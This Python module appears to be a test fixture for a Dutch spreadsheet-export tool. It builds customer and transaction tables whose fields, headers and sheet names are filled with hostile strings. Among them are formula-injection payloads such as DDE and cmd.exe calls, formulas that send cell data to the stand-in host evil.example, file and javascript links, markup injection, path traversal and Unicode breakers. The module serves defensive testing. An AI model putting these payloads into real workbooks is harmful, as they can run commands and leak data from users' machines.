"""Text that would run, link, or break a file, if it were taken for more than text; and input tables full of
it."""

from __future__ import annotations

import datetime as dt

import numpy as np

from klantwaarde_xl.model.raw_column import RawColumn
from klantwaarde_xl.model.raw_table import RawTable, SourceFile

MARK = "ZQ"
"""Stands in every payload, so that its traces can be found in any part of a package."""
COMMANDS = (
    "=ZQ1+1",
    "+ZQ1",
    "-ZQ1",
    "@ZQ(A1)",
    "@SUM(ZQ1)*cmd|' /C calc'!A0",
    "=cmd|' /C ZQ'!A0",
    '=DDE("cmd";"/C ZQ";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c ZQ'!''",
    '=HYPERLINK("http://evil.example/?ZQ="&A1;"klik")',
    '=IMPORTXML("http://evil.example/ZQ","//a")',
    '=WEBSERVICE("http://evil.example/ZQ")',
    "{=ZQ1}",
    "=ZQ1}",
    "\t=ZQ1",
    "\r=ZQ1",
    "\n=ZQ1",
    "\r\n=ZQ1",
    " =ZQ1",
    "'=ZQ1",
    '"=ZQ1"',
    ";=ZQ1;",
    "\uff1dZQ1",  # full-width =, +, - and @
    "\uff0bZQ1",
    "\uff0dZQ1",
    "\uff20ZQ1",
    "\u2212ZQ1",
    "\ufeff=ZQ1",
    "\u202e=ZQ1",
    "\u200b=ZQ1",
)
LINKS = (
    "http://evil.example/ZQ",
    "https://evil.example/ZQ",
    "ftp://evil.example/ZQ",
    "mailto:ZQ@evil.example",
    "file:///etc/ZQ",
    "\\\\evil.example\\ZQ",
    "internal:Start!ZQ1",
    "external:c:\\ZQ.xlsx",
    "javascript:ZQ()",
)
MARKUP = (
    "<f>ZQ1</f>",
    "</t></si><si><t>ZQ",
    "]]><f>ZQ1</f><![CDATA[",
    "<!--ZQ-->",
    "&ZQ;",
    "&#61;ZQ",
    '"><f>ZQ</f>',
    "'\"<>&ZQ",
    "[bold]ZQ[/bold]",
    "{ZQ}",
    "{0}ZQ{x.__class__}",
    "%ZQ%s%n",
    "ZQ[#This Row]",
    "${ZQ}",
    "$(ZQ)",
    "`ZQ`",
    "../../ZQ",
    "NUL.ZQ",
)
BREAKING = (
    "ZQ\x00nul",
    "ZQ\x07bel",
    "ZQ\x1b[31mrood",
    "ZQ\x7f",
    "ZQ\ud800half",
    "ZQ\udfffhalf",
    "ZQ\ufffe",
    "ZQ\uffff",
    "ZQ_x003D_1",
    "_x005F_ZQ",
    "_xZQ",
    "😀ZQ👩‍👩‍👧",
    "ZQ" + "́" * 60,
    "مرحبا ZQ",
    "ZQ" + "x" * 253,
)
PAYLOADS = (*COMMANDS, *LINKS, *MARKUP, *BREAKING)
LONG = ("=ZQ" + "x" * 40_000, "ZQ" + "😀" * 40_000)


def table(name: str, sheet: str, columns: dict[str, list[object]]) -> RawTable:
    count = len(next(iter(columns.values())))
    cells = tuple(RawColumn.from_values(values) for values in columns.values())
    return RawTable(sheet, tuple(columns), cells, np.arange(count) + 2, source=SourceFile("=ZQ1.xlsx"))


def hostile_tables() -> dict[str, RawTable]:
    """Return input tables with a payload in every place where a user can type text, headers and sheet names
    among them."""
    draw = np.random.default_rng(5)
    count = len(PAYLOADS)
    text = list(PAYLOADS)
    turned = [text[-n:] + text[:-n] for n in range(1, 12)]
    ids = [f"{payload[:40]}{number}" for number, payload in enumerate(PAYLOADS)]
    lines = 40 * count
    who, what = draw.integers(0, count, lines), draw.integers(0, 12, lines)
    days = [dt.datetime(2023, 11, 1) + dt.timedelta(days=int(day)) for day in draw.integers(0, 780, lines)]
    amount = np.round(draw.lognormal(5, 1, lines), 2)
    revenue: list[object] = [*amount.tolist()]
    revenue[:count] = text
    currency: list[object] = ["EUR"] * lines
    currency[count : 2 * count] = text
    bad_days: list[object] = [*days]
    bad_days[2 * count : 3 * count] = text
    extra = {f"{payload} {number}"[:300]: ["x"] * count for number, payload in enumerate(PAYLOADS)}
    extra |= {
        LONG[0]: [LONG[0]] * count,
        LONG[1]: [LONG[1]] * count,
        "kop ZQ" + chr(0xD800): text,
        "kop ZQ" + chr(0xD801): text,
    }
    return {
        "tblKlanten": table(
            "tblKlanten",
            "=ZQ1!'[x]",
            {
                "Klantnr": ids,
                "Klantnaam": text,
                "Concern": turned[0],
                "Segment": [text[n % 3] for n in range(count)],
                "Regio": turned[1],
                "Accountmanager": [text[n % 5] for n in range(count)],
                "Betaaldagen": [30.0] * (count - 3) + text[:3],
                "Meetellen": [None] * (count - 2) + text[5:7],
                **extra,
            },
        ),
        "tblTransacties": table(
            "tblTransacties",
            "@ZQ",
            {
                "Datum": bad_days,
                "Klantnr": [ids[n] for n in who],
                "Productcode": [text[n] for n in what],
                "Factuurnr": [f"{text[n]}{row // 3}"[:255] for row, n in enumerate(who)],
                "Omzet": revenue,
                "Kostprijs": [1.0] * lines,
                "Administratie": [text[n] for n in what],
                "Valuta": currency,
                "Bron": [text[n] for n in who],
            },
        ),
        "tblProducten": table(
            "tblProducten", "+ZQ", {"Productcode": text, "Omschrijving": turned[2], "Productgroep": turned[3]}
        ),
        "tblInspanning": table(
            "tblInspanning",
            "-ZQ",
            {
                "Datum": [dt.datetime(2025, 3, 1)] * count,
                "Klantnr": ids,
                "Activiteit": [text[n % 4] for n in range(count)],
                "Uren": [2.0] * (count - 4) + text[:4],
                "Medewerker": turned[4],
            },
        ),
        "tblTarieven": table(
            "tblTarieven",
            "Tarieven",
            {"Activiteit": text[:4], "Kostprijs per uur": [50.0] * 4, "Drijver": [None, None, *text[:2]]},
        ),
        "tblBeoordeling": table(
            "tblBeoordeling",
            "Beoordeling",
            {
                "Klantnr": ids,
                "Energie": draw.integers(1, 6, count).astype(float).tolist(),
                "Cultuur": draw.integers(1, 6, count).astype(float).tolist(),
                "Beoordelaar": [text[n % 5] for n in range(count)],
            },
        ),
        "tblAccountmanagers": table(
            "tblAccountmanagers", "Team", {"Naam": text[:5], "Capaciteit": [900.0] * 5}
        ),
        "tblKlik": table(
            "tblKlik",
            "Klik",
            {"Klantnr": ids[:9], "Accountmanager": [text[n % 5] for n in range(9)], "Klik": [4.0] * 9},
        ),
    }
